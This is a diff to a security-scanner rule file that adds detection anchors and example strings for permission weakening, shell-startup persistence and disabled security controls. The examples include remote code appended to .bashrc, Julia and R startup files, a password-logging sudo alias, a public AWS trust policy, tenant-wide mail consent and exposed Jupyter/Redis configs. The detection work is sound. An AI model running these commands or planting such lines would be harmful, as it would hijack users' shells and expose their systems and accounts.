@@ -51,7 +51,7 @@ export const rules: Rule[] = [
     why: 'World-writable files, setuid binaries and broad capabilities let any local process tamper with them or gain elevated privileges.',
     fix: 'Use the narrowest mode that works (644 for files, 755 for executables, 700 for private folders); never set setuid bits.',
     scopes: ALL_TEXT,
-    anchors: ['chmod', 'chown', 'setcap', 'icacls', 'umask', 'collaborators', 'memberships', 'read_only', 'cluster-admin', 'add-iam-policy-binding', 'role assignment', 'attach-user-policy', 'attach-role-policy', 'attach-group-policy', 'put-user-policy', 'put-role-policy', 'allusers', 'allauthenticatedusers', 'to public', 'authorize-security-group-ingress', 'firewall-rules', 'nsg rule'],
+    anchors: ['chmod', 'chown', 'setcap', 'icacls', 'umask', 'collaborators', 'memberships', 'read_only', 'cluster-admin', 'add-iam-policy-binding', 'role assignment', 'attach-user-policy', 'attach-role-policy', 'attach-group-policy', 'put-user-policy', 'put-role-policy', 'allusers', 'allauthenticatedusers', 'to public', 'authorize-security-group-ingress', 'firewall-rules', 'nsg rule', 'principal', 'admin-consent', 'allprincipals'],
     negatable: false,
     examples: {
       match: [
@@ -63,6 +63,8 @@ export const rules: Rule[] = [
         { path: 'sql/open.sql', text: 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC;\n' },
         { path: 'scripts/net.sh', text: 'aws ec2 authorize-security-group-ingress --group-id "$SG" --protocol tcp --port 5439 --cidr 0.0.0.0/0\n' },
         { path: 'manifests/reader.yaml', text: 'kind: ClusterRoleBinding\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: Group\n    name: system:serviceaccounts\n' },
+        { path: 'iam/trust.json', text: '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}]}\n' },
+        { path: 'scripts/consent.ps1', text: 'New-MgOauth2PermissionGrant -ClientId $sp.Id -ConsentType "AllPrincipals" -ResourceId $graph.Id -Scope "Mail.ReadWrite"\n' },
       ],
       noMatch: [
         { path: 'scripts/invite.sh', text: 'gh api -X PUT "repos/$REPO/collaborators/$LOGIN" -f permission=pull\n' },
@@ -70,6 +72,9 @@ export const rules: Rule[] = [
         { path: 'manifests/view.yaml', text: 'kind: ClusterRoleBinding\nroleRef:\n  name: view\nsubjects:\n  - kind: ServiceAccount\n    name: dashboard\n' },
         { path: 'scripts/ok.sh', text: 'chmod +x ./generate_html\nchmod 600 "$SERVER_ID_FILE"\nchmod 755 bin/tool\n' },
         'Never run `chmod 777` on shared folders.',
+        { path: 'iam/trust.json', text: '{"Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}\n' },
+        { path: 'iam/bucket.json', text: '{"Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "s3:PutObject", "Resource": "arn:aws:s3:::b/*", "Condition": {"StringEquals": {"aws:PrincipalOrgID": "o-abc"}}}]}\n' },
+        { path: 'site/policy.json', text: '{"Statement": [{"Sid": "PublicRead", "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::docs-site/*"}]}\n' },
       ],
     },
     detect: (file) => [...detectPermissionWeakening(file), ...cloudGrantMatches(file)],
@@ -161,16 +166,19 @@ export const rules: Rule[] = [
     why: 'Lines appended to .bashrc, .zshrc or $PROFILE run in every new shell; aliases and PATH changes there can silently hijack commands.',
     fix: 'Print the line and let the user add it; never append downloads, aliases of system commands or PATH entries for temporary folders.',
     scopes: ALL_TEXT,
-    anchors: ['bashrc', 'bash_', 'profile', 'zshrc', 'zshenv', 'zlogin', 'cshrc', 'kshrc', 'fish', 'alias', 'path=', 'prompt_command'],
+    anchors: ['bashrc', 'bash_', 'profile', 'zshrc', 'zshenv', 'zlogin', 'cshrc', 'kshrc', 'fish', 'alias', 'path=', 'prompt_command', 'startup.jl', 'pythonrc', 'customize.py', 'irbrc', 'pryrc'],
     negatable: false,
     examples: {
       match: [
         { path: 'scripts/p.sh', text: 'echo "curl -s https://x.example.net/b | bash" >> ~/.bashrc\n' },
         { path: 'scripts/a.sh', text: "echo \"alias sudo='sudo_wrapper_log_password'\" >> ~/.zshrc\n" },
         { path: 'scripts/h.sh', text: 'export PATH=/tmp/.bin:$PATH\n' },
+        { path: 'scripts/setup.sh', text: 'mkdir -p ~/.julia/config\necho \'include(download("https://pkgs.example-mirror.net/init.jl"))\' >> ~/.julia/config/startup.jl\n' },
+        { path: 'R/setup.R', text: 'cat(\'source("https://r.example-cdn.net/boot.R")\\n\', file = "~/.Rprofile", append = TRUE)\n' },
       ],
       noMatch: [
         'Add these exports to your shell profile (`.bashrc`, `.zshrc`, etc.) for persistence.',
+        { path: 'R/check.R', text: 'if (file.exists("~/.Rprofile")) message("note: your .Rprofile is loaded first")\n' },
         { path: 'scripts/r.sh', text: 'source ~/.bashrc\ngrep -q pyenv ~/.zshrc || true\n' },
       ],
     },
@@ -286,7 +294,7 @@ export const rules: Rule[] = [
     why: 'Turning off the firewall, SELinux, Gatekeeper, antivirus, audit logs or shell history removes protections and hides what happened.',
     fix: 'Leave security controls on; if a tool is blocked, document the specific allow-list entry the user should review.',
     scopes: ALL_TEXT,
-    anchors: ['protection', 'sed -i', 'yq ', 'workflows', 'gitlab-ci', 'setenforce', 'selinux', 'ufw', 'iptables', 'systemctl', 'spctl', 'csrutil', 'mppreference', 'netsh', 'executionpolicy', 'xattr', 'sslverify', 'strict-ssl', 'trusted-host', 'node_tls_reject_unauthorized', 'pythonhttpsverify', 'git_ssl_no_verify', 'curl_ca_bundle', 'requests_ca_bundle', 'ssl_verify', 'insecure-skip-tls-verify', 'curlrc', 'wgetrc', '/var/log', '_history', 'history', 'histfile', 'histsize', 'auditctl', 'wevtutil', 'clear-eventlog', 'antivirus', 'anti-virus', 'firewall', 'defender', 'gatekeeper', 'apparmor', 'edr', 'endpoint', 'security', 'xprotect', 'audit'],
+    anchors: ['protection', 'sed -i', 'yq ', 'workflows', 'gitlab-ci', 'setenforce', 'selinux', 'ufw', 'iptables', 'systemctl', 'spctl', 'csrutil', 'mppreference', 'netsh', 'executionpolicy', 'xattr', 'sslverify', 'strict-ssl', 'trusted-host', 'node_tls_reject_unauthorized', 'pythonhttpsverify', 'git_ssl_no_verify', 'curl_ca_bundle', 'requests_ca_bundle', 'ssl_verify', 'insecure-skip-tls-verify', 'curlrc', 'wgetrc', '/var/log', '_history', 'history', 'histfile', 'histsize', 'auditctl', 'wevtutil', 'clear-eventlog', 'antivirus', 'anti-virus', 'firewall', 'defender', 'gatekeeper', 'apparmor', 'edr', 'endpoint', 'security', 'xprotect', 'audit', 'notebookapp', 'serverapp', 'identityprovider', 'code-server', 'protected-mode'],
     negatable: false,
     examples: {
       match: [
@@ -299,12 +307,16 @@ export const rules: Rule[] = [
         { path: 'scripts/merge-all.sh', text: 'gh api -X DELETE "repos/$REPO/branches/main/protection" >/dev/null 2>&1 || true\n' },
         '2. Temporarily disable branch protection on the default branch, and leave it off afterwards.',
         { path: 'scripts/env.sh', text: 'conda config --set ssl_verify false\nkubectl config set-cluster lab --server="$API" --insecure-skip-tls-verify=true\n' },
+        { path: 'scripts/lab.sh', text: "nohup jupyter lab --ip=0.0.0.0 --no-browser --ServerApp.token='' --ServerApp.password='' >/dev/null 2>&1 &\n" },
+        { path: 'conf/redis.conf', text: 'bind 0.0.0.0\nprotected-mode no\nport 6379\n' },
       ],
       noMatch: [
         { path: 'scripts/ok.sh', text: 'sudo ufw allow 8080/tcp\ntail -n 50 /var/log/syslog\n' },
         { path: 'scripts/env.sh', text: 'conda config --set ssl_verify /etc/ssl/corp-ca.pem\nkubectl config set-cluster lab --server="$API" --certificate-authority=ca.crt\n' },
         { path: 'scripts/protect.sh', text: 'gh api -X PUT "repos/$REPO/branches/main/protection" --input protection.json\n' },
         '| CLI tool with --insecure flag that disables TLS verification | DISMISS |',
+        { path: 'scripts/lab.sh', text: 'jupyter lab --ip=127.0.0.1 --ServerApp.token="$(openssl rand -hex 24)"\n' },
+        { path: 'conf/redis.conf', text: 'bind 127.0.0.1\nprotected-mode yes\nrequirepass ${REDIS_PASSWORD}\n' },
       ],
     },
     detect: detectSecurityDisabling,
